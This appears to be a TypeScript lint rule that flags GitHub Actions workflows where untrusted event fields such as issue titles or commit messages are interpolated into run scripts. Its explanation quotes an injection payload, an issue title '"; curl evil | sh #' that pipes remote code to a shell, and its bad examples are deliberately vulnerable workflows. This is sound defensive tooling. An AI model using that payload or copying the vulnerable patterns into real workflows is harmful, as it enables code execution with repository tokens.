import { defineRule } from '../../../core';
import type { Report } from '../../../core';
import { zizmor } from '../sources';
import { codeOf, expressionsIn } from '../workflows';

export default defineRule({
  id: 'github-actions/no-template-injection',
  catalogue: ['template-injection'],
  equivalents: [
    'zizmor:template-injection',
    'actionlint:expression',
    'kics:run_block_injection',
    'kics:script_block_injection',
    'semgrep:run-shell-injection',
    'semgrep:github-script-injection',
    'checkov:CKV_GHA_2',
  ],
  severity: 'warning',
  certainty: 'certain',
  summary: 'Text that a stranger wrote becomes part of a script.',
  why: 'The expression is put in before the shell reads the script: an issue titled `"; curl evil | sh #` runs, with the workflow\'s tokens.',
  remedy: 'Pass it as a variable: `env: TITLE: ${{ … }}`, and use `"$TITLE"`.',
  references: [
    {
      title: 'GitHub: script injections',
      url: 'https://docs.github.com/en/actions/concepts/security/script-injections',
    },
    zizmor('template-injection'),
  ],
  messages: { stranger: 'A stranger decides what {path} says, and it becomes part of the script.' },
  fix: 'review',
  looksAt: [{ view: 'github-actions/step', path: [] }],
  *check(at): Iterable<Report> {
    for (const code of codeOf(at)) {
      for (const { span, read, body } of expressionsIn(code)) {
        const path = read.is === 'read' ? read.paths.find(isFromStranger) : undefined;
        if (!path) continue;
        const isWhole = code.key === 'run' && body.trim() === path.join('.');
        const name = variableName(path);
        const isFree = isWhole && !at.has('env', name) && !at.has('shell');
        const edits = isFree ? at.set(['env', name], `\${{ ${body.trim()} }}`) : undefined;
        const fix = edits && at.fix('review', `Pass it as ${name}`, [{ span, text: `\${${name}}` }], edits);
        yield { message: 'stranger', data: { path: path.join('.') }, span, fix };
      }
    }
  },
  examples: {
    bad: [
      {
        path: '.github/workflows/build.yaml',
        text: 'on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "«${{ github.event.issue.title }}»" # hi\n',
        fixed:
          'on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${TITLE}" # hi\n        env:\n          TITLE: ${{ github.event.issue.title }}\n',
      },
      {
        path: '.github/workflows/build.yaml',
        text: 'on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: bash\n        run: |\n          git checkout «${{ github.head_ref || github.ref }}» --\n',
      },
      {
        path: '.github/workflows/build.yaml',
        text: 'on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: return "«${{ github.event.comment.body }}»"\n',
      },
      {
        path: '.github/workflows/build.yaml',
        text: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: bash\n        run: echo «${{ github.event.commits[0].message }}»\n',
      },
    ],
    good: [
      {
        path: '.github/workflows/build.yaml',
        text: 'on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "$TITLE"\n        env: { TITLE: "${{ github.event.issue.title }}" }\n',
      },
      {
        path: '.github/workflows/build.yaml',
        text: 'on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.event.issue.number }} ${{ github.sha }}\n      - uses: acme/a@v1\n        with: { script: "${{ github.event.issue.title }}" }\n',
      },
    ],
  },
});

const stranger =
  /^github\.(?:head_ref$|event\.(?:(?:issue|pull_request|discussion|milestone|project|project_card|project_column|release|review|review_comment|comment)\.(?:title|body|name|description|note)|pages\.(?:\d+|\*)\.page_name|commits\.(?:\d+|\*)\.(?:message|author\.(?:email|name))|head_commit\.(?:message|author\.(?:email|name)|committer\.(?:email|name))|pull_request\.head\.(?:ref|label|repo\.(?:default_branch|description|homepage))|workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name))|head_repository\.description|pull_requests\.(?:\d+|\*)\.head\.ref)|workflow\.path|inputs\.\w+$))/;

function isFromStranger(path: readonly string[]): boolean {
  return stranger.test(path.join('.')) && !/^github\.event\.inputs\./.test(path.join('.'));
}

function variableName(path: readonly string[]): string {
  return (path.at(-1) ?? 'VALUE').replace(/\W/g, '_').toUpperCase();
}
